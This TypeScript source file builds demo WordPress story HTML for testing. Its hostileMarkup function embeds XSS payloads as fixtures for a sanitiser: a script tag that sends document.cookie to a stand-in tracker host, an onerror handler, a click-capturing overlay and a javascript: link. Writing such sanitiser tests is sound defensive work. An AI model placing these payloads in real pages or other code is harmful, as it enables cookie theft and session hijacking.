// A demo story written as WordPress's block editor renders it, character references and all.
import type { Rng } from '../seeded-random';
import type { Phrasebook, Story, StoryKind } from './stories/types';

/** Text as WordPress renders it: markup characters escaped, apostrophes curled into references. */
export function toRenderedText(text: string): string {
  return text.replace(/&/g, '&#038;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&#8217;');
}

const attribute = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

const VIDEO_ID_CHARACTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';

function youtubeEmbed(story: Story, book: Phrasebook, random: Rng): string {
  const id = Array.from({ length: 11 }, () => random.pick([...VIDEO_ID_CHARACTERS])).join('');
  return (
    '<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper">' +
    `<iframe title="${attribute(`${book.words.video}: ${story.title}`)}" width="560" height="315" src="https://www.youtube-nocookie.com/embed/${id}?feature=oembed" ` +
    'frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>' +
    '</div></figure>\n'
  );
}

// What a partner's pasted HTML may carry; the sanitiser must leave none of it working.
function hostileMarkup(book: Phrasebook): string {
  return (
    "<script>document.location='https://tracker.example/steal?c='+document.cookie</script>\n" +
    '<p><img src="x" onerror="alert(\'xss\')" alt=""> <span style="position:fixed;inset:0;z-index:9999" onclick="alert(1)"></span></p>\n' +
    `<p><a href="javascript:alert('xss')">${toRenderedText(book.words.partnerLink)}</a></p>\n`
  );
}

export function writeExcerpt(story: Story): string {
  return `<p>${toRenderedText(story.excerpt)}</p>\n`;
}

export function writeContent(kind: StoryKind, story: Story, book: Phrasebook, random: Rng, image: string): string {
  const paragraph = (text: string) => `<p>${toRenderedText(text)}</p>\n`;
  return [
    paragraph(story.intro),
    kind === 'highlights' ? youtubeEmbed(story, book, random) : '',
    paragraph(story.body),
    kind === 'partner' ? hostileMarkup(book) : '',
    `<h2 class="wp-block-heading">${toRenderedText(story.listTitle)}</h2>\n`,
    `<ul class="wp-block-list">${story.list.map((item) => `<li>${toRenderedText(item)}</li>`).join('')}</ul>\n`,
    `<blockquote class="wp-block-quote"><p>${toRenderedText(story.quote)}</p><p><strong>${toRenderedText(story.quoteBy)}</strong></p></blockquote>\n`,
    `<figure class="wp-block-image size-large"><img decoding="async" src="${attribute(image)}" alt="${attribute(story.imageAlt)}" width="1200" height="630" class="wp-image-1"/>` +
      `<figcaption class="wp-element-caption">${toRenderedText(story.caption)}</figcaption></figure>\n`,
    paragraph(story.closing),
  ].join('');
}
